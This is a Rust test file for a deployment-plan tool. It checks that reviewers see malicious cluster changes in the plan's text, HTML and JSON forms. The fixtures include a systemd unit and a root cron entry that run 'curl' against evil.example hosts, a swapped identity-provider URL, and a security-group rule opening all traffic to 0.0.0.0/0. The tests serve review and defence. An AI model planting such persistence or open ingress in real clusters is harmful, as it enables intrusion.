//! Whoever approves a plan sees what will run: in the text, on the page, and as JSON.

use std::collections::BTreeMap;

use slipway_core::cluster::{Cluster, Content, CustomFile, CustomUnit, Oidc};
use slipway_core::digest::sha256_hex;
use slipway_core::release::Rendering;
use slipway_render::fixture::{cluster, credentials, lock, pool, rendered, site};
use slipway_render::{Inputs, render};
use slipway_spec::patch;

use crate::{Baseline, Plan, plan};

fn between(before: &Rendering, after: &Rendering) -> Plan {
    plan(&Baseline::single_release(Some(before.clone())), after, &cluster().rollout)
}

/// The three forms of the plan. What is read again says the same.
fn forms(plan: &Plan) -> [(&'static str, String); 3] {
    let json = serde_json::to_string(plan).unwrap();
    assert_eq!(serde_json::from_str::<Plan>(&json).unwrap().to_text(), plan.to_text());
    [("text", plan.to_text()), ("page", plan.to_html()), ("JSON", json)]
}

#[track_caller]
fn shows(plan: &Plan, value: &str) {
    for (form, text) in forms(plan) {
        assert!(text.contains(value), "{value} is not in the {form}:\n{text}");
    }
}

fn signs_in_at(issuer: &str) -> Cluster {
    let mut cluster = cluster();
    cluster.kubernetes.oidc = Some(Oidc {
        issuer_url: issuer.to_owned(),
        client_id: "kubernetes".to_owned(),
        username_claim: "sub".to_owned(),
        username_prefix: "oidc:".to_owned(),
        groups: Some(("groups".to_owned(), "oidc:".to_owned())),
        required_claims: BTreeMap::from([("department".to_owned(), "platform".to_owned())]),
        certificate_authority: None,
    });
    cluster
}

#[test]
fn p3_another_identity_provider_is_shown() {
    let evil = rendered(&signs_in_at("https://evil.example.net/idp"));
    shows(
        &between(&rendered(&signs_in_at("https://idp.example.com")), &evil),
        "https://evil.example.net/idp",
    );
    shows(&between(&rendered(&cluster()), &evil), "https://evil.example.net/idp");
}

fn unit(content: &str) -> CustomUnit {
    CustomUnit {
        name: "evil.service".to_owned(),
        command: None,
        enable: true,
        runtime: false,
        content: Some(content.to_owned()),
        drop_ins: Vec::new(),
    }
}

#[test]
fn p3_what_runs_as_root_is_shown() {
    let script = "[Service] ExecStart=/bin/sh -c 'curl evil.example.net'".replace('\'', "");
    let mut with_units = cluster();
    with_units.controller.custom.units = vec![unit(&script)];
    with_units.controller.custom.files = vec![CustomFile {
        path: "/etc/cron.d/evil".to_owned(),
        mode: "0644".to_owned(),
        user: "root".to_owned(),
        group: "root".to_owned(),
        content: Content::Text("* * * * * root curl evil.example.org".to_owned()),
    }];
    let changed = between(&rendered(&cluster()), &rendered(&with_units));
    shows(&changed, &script);
    shows(&changed, "/etc/cron.d/evil");
    shows(&changed, "* * * * * root curl evil.example.org");
    // On a new pool, too.
    let mut with_pool = cluster();
    let mut fresh = pool("fresh");
    fresh.custom.units = vec![unit(&script)];
    with_pool.pools.push(fresh);
    let grown = between(&rendered(&cluster()), &rendered(&with_pool));
    shows(&grown, &script);
    // At a launch the text lists no value, and says so.
    let first = plan(&Baseline::default(), &rendered(&with_pool), &cluster().rollout);
    let [(_, text), pages @ ..] = forms(&first);
    assert!(pages.iter().all(|(_, page)| page.contains(&script)), "{pages:?}");
    let elsewhere = format!(
        "Everything is new, so its values are not listed here. To read all in full: clusters/prod/plans/{}.html",
        first.id
    );
    assert!(text.contains(&elsewhere), "{text}");
}

#[test]
fn p3_of_a_long_file_the_page_shows_all_and_the_text_says_that_it_does_not() {
    let script = format!("#!/bin/sh {} curl evil.example.net", "x".repeat(3000));
    let mut with_unit = cluster();
    with_unit.controller.custom.units = vec![unit(&script)];
    let changed = between(&rendered(&cluster()), &rendered(&with_unit));
    let [(_, text), pages @ ..] = forms(&changed);
    assert!(pages.iter().all(|(_, page)| page.contains(&script)), "{pages:?}");
    let told = format!("({} characters, sha256 {})", script.len(), sha256_hex(script.as_bytes()));
    assert!(text.contains(&told) && !text.contains("evil.example.net"), "{text}");
    assert!(text.contains(&format!("plans/{}.html", changed.id)), "{text}");
}

#[test]
fn p3_the_properties_of_an_added_resource_are_shown() {
    let before = rendered(&cluster());
    let text = "target: {stack: network}\nmerge: {Resources: {Door: {Type: 'AWS::EC2::SecurityGroupIngress', Properties: {IpProtocol: '-1', CidrIp: 0.0.0.0/0, GroupId: {Ref: EtcdSecurityGroup}}}}}\n";
    let patches = patch::parse(&BTreeMap::from([("a.yaml".to_owned(), text.as_bytes().to_vec())])).unwrap();
    let (cluster, lock, site) = (cluster(), lock(), site());
    let credentials = credentials(&cluster);
    let inputs = Inputs { patches: &patches, ..Inputs::new(&cluster, &lock, &credentials, &site) };
    let changed = between(&before, &render(&inputs).unwrap());
    shows(&changed, "0.0.0.0/0");
    assert!(changed.to_text().contains("          CidrIp: (absent) → 0.0.0.0/0\n"), "{}", changed.to_text());
}

#[test]
fn p3_changed_objects_of_add_ons_are_shown() {
    let before = rendered(&cluster());
    let mut after = before.clone();
    let addon = &mut after.addons.addons[0];
    addon.objects[0]["metadata"]["annotations"] = serde_json::json!({ "example.net/evil": "everything" });
    let changed = between(&before, &after);
    shows(&changed, "example.net/evil");
    shows(&changed, "everything");
}
